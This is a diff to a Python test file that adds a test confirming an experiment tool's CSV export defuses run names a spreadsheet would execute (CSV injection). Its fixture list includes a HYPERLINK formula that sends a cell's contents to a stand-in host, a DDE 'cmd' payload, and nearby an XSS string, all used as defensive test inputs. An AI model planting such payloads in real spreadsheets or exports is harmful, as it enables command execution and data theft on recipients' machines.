@@ -521,6 +521,24 @@ def test_markdown_escapes_inline_html():
     assert "&lt;img src=x onerror=alert(1)&gt; &amp; co" in text and "<img" not in text
 
 
+FORMULAS = ['=HYPERLINK("http://x.example/?"&A1,"ok")', "+1+cmd|' /C calc'!A0", "-2+3",
+            "@SUM(1)", "\t=1"]  # fmt: skip
+
+
+@pytest.mark.parametrize("name", FORMULAS)
+def test_csv_defuses_run_names_a_spreadsheet_would_run(name):
+    """A run named like a formula went into the CSV export raw: Excel and LibreOffice run it
+    when a teammate opens the file (CSV injection). The cell gets a leading ``'``; numbers
+    (a negative one included) and JSON stay as logged."""
+    runs = frame([("cnn", "r1", 0, 0.5, -1.5)])
+    runs.loc[0, "run_name"] = name
+    table = compare.results_table(runs, "test_accuracy")
+    (row,) = csv.DictReader(io.StringIO(render.render(table, "csv")))
+    assert row["run_name"] == f"'{name}"
+    assert row["training_time_s"] == "-1.5" and row["run_id"] == "r1"
+    assert json.loads(render.render(table, "json"))[0]["run_name"] == name
+
+
 def load_benchmark(monkeypatch):
     """benchmarks/compare_scale.py as a module its worker processes can import too."""
     monkeypatch.syspath_prepend(str(REPO / "benchmarks"))
